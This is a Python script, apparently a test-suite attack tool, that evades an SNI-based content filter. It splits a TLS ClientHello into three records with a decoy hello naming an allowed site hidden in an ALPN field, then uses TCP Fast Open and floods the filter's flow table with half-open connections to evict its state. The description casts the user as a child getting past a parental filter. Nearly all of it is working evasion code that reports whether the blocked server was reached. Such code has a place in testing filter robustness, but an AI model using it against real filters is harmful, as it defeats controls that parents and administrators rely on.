#!/usr/bin/env python3
"""A child's way past a judge that loses track of where a connection's opening starts (the
attack on the installed agent, 2026-12-01). Her real hello names REAL; she splits its one
handshake message into three records, the middle one being exactly a whole hello naming ALLOWED
(its bytes ride inside the real hello as an ALPN protocol name):

  1. the first record goes as TCP Fast Open data on the SYN; the link loses that SYN (the test's
     drop rule stands in), and TCP sends a plain SYN, then the record again as data;
  2. COUNT half-openings of hers to a listener of her own push the first record's pending flow
     out of the agent's table;
  3. the middle record goes alone: a whole hello naming ALLOWED, as if it began the stream;
  4. the rest follows. The server puts the three together: the real hello.

  tfo-prefix.py ADDRESS PORT ALLOWED REAL COUNT

Prints one word: served NAME (the server answered, and said which name it saw), reset, closed,
timeout, lost (the first record was never acknowledged) or error:WHY.
"""
import resource
import socket
import ssl
import struct
import sys
import time

address, port, allowed, real, count = sys.argv[1:6]
port, count = int(port), int(count)
family = socket.AF_INET6 if ":" in address else socket.AF_INET
server = (address, port)
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
TCP_FASTOPEN_NO_COOKIE = 34
MSG_FASTOPEN = 0x20000000


def record(message):
    return b"\x16\x03\x01" + struct.pack("!H", len(message)) + message


def plain_hello(name):
    """A ClientHello handshake message naming `name`, every byte below 0x80 (so that it can be an
    ALPN protocol name): version, random, no session, one suite, no compression, the name."""
    name = name.encode()
    extension = struct.pack("!HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    body = b"\x03\x03" + b"R" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
    body += struct.pack("!H", len(extension)) + extension
    return b"\x01" + len(body).to_bytes(3, "big") + body


def unacknowledged(sock):
    # struct tcp_info: eight one-byte fields, then rto, ato, snd_mss, rcv_mss, unacked.
    return struct.unpack_from("I", sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 104), 24)[0]


def acknowledged(sock, seconds=5):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if unacknowledged(sock) == 0:
            return True
        time.sleep(0.002)
    return False


inner = plain_hello(allowed)
middle = record(inner)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
context.set_alpn_protocols([inner.decode("ascii")])
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = context.wrap_bio(incoming, outgoing, server_hostname=real)
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    pass
whole = outgoing.read()
if whole[0] != 0x16 or len(whole) != 5 + int.from_bytes(whole[3:5], "big"):
    sys.exit("OpenSSL's hello is not one record")
message = whole[5:]
at = message.find(inner)
first, rest = record(message[:at]), record(message[at + len(inner) :])

# Her listener, for the half-openings.
listener = socket.socket(socket.AF_INET)
listener.bind(("127.0.0.1", 0))
listener.listen(4096)

sock = socket.socket(family)
sock.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1)
sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
sock.settimeout(8)
try:
    sock.sendto(first, MSG_FASTOPEN, server)
except OSError as error:
    print("reset" if "reset" in str(error).lower() else "error:%s" % error)
    sys.exit(0)
if not acknowledged(sock):
    print("lost")
    sys.exit(0)
held = []
for _ in range(count):
    other = socket.socket(socket.AF_INET)
    other.connect(listener.getsockname())
    other.send(b"\x16\x03\x01\x01\x00\x01\x00\x00\xfc")
    held.append(other)
time.sleep(0.2)


def outcome():
    try:
        sock.send(middle)
        acknowledged(sock)
        time.sleep(0.05)
        sock.send(rest)
        while True:
            try:
                tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                data = outgoing.read()
                if data:
                    sock.sendall(data)
                chunk = sock.recv(65536)
                if not chunk:
                    return "closed"
                incoming.write(chunk)
        sock.sendall(outgoing.read())
        tls.write(b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % real.encode())
        sock.sendall(outgoing.read())
        answer = b""
        while b"\r\n\r\n" not in answer or b"\n" not in answer.split(b"\r\n\r\n", 1)[-1]:
            chunk = sock.recv(65536)
            if not chunk:
                break
            incoming.write(chunk)
            try:
                answer += tls.read(65536)
            except ssl.SSLWantReadError:
                pass
        body = answer.split(b"\r\n\r\n", 1)[-1].decode(errors="replace").strip()
        return ("served " + body.split()[-1]) if body.startswith("https") else "closed"
    except (ConnectionResetError, BrokenPipeError):
        return "reset"
    except socket.timeout:
        return "timeout"
    except (ssl.SSLError, OSError) as error:
        return "reset" if "reset" in str(error).lower() else "error:%s" % error


print(outcome())
for other in held:
    other.close()
